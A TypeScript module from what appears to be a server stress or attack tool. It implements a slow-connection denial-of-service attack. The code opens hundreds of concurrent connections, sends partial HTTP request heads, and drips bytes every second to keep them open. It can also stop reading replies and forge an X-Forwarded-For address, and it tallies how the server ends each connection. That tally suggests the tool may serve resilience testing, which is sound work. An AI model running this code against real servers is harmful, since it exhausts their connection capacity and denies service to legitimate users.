import { connect, type Socket } from 'node:net';
import type { Outcome, Scale, Target } from './attack.ts';
import { createTally } from './tally.ts';

export interface Held {
  /** What is sent at once. */
  head: string;
  /** What follows, a piece each second; absent: nothing. */
  drip?: string;
  /** Whether the answer is read; otherwise it fills what the kernel has room for. */
  reads: boolean;
}

/** So that the machine's queue of new connections does not decide how many there are. */
const AT_ONCE = 200;
const DRIP_EVERY_MS = 1_000;
const HOST = 'Host: x\r\n';
const STATUS = /^HTTP\/1\.1 (\d{3}) /;

/** Opens connections and holds each for as long as the server lets it. */
export async function holdConnections(
  { url, address }: Target,
  { connections, seconds }: Scale,
  { head, drip, reads }: Held,
): Promise<Outcome> {
  const { hostname, port } = new URL(url);
  const from = address === undefined ? '' : `X-Forwarded-For: ${address}\r\n`;
  const sent = head.replace(HOST, `${HOST}${from}`);
  const tally = createTally();
  const deadline = performance.now() + seconds * 1_000;
  const open = new Set<Socket>();
  const dripping = setInterval(() => {
    if (drip !== undefined) for (const socket of open) if (socket.writable) socket.write(drip);
  }, DRIP_EVERY_MS);

  /** `connected` is called once, also when it never is. */
  function hold(connected: () => void): Promise<void> {
    return new Promise((resolve) => {
      const begun = performance.now();
      let end = 'refused';
      const socket = connect({ host: hostname, port: Number(port) }, () => {
        end = 'cut';
        open.add(socket);
        socket.write(sent);
        if (!reads) socket.pause();
        connected();
      });
      const giveUp = setTimeout(() => {
        end = end === 'cut' ? 'open' : end;
        socket.destroy();
      }, deadline - begun);
      if (reads) {
        socket.on('data', (bytes) => {
          end = STATUS.exec(bytes.toString('latin1'))?.[1] ?? end;
        });
      }
      // A reset is how some are cut.
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearTimeout(giveUp);
        open.delete(socket);
        tally.end(end, (performance.now() - begun) / 1_000);
        connected();
        resolve();
      });
    });
  }

  let begun = 0;
  const held: Promise<void>[] = [];
  async function openSome(): Promise<void> {
    while (begun < connections && performance.now() < deadline) {
      begun += 1;
      await new Promise<void>((connected) => held.push(hold(connected)));
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, openSome));
  await Promise.all(held);
  clearInterval(dripping);
  return tally.outcome();
}
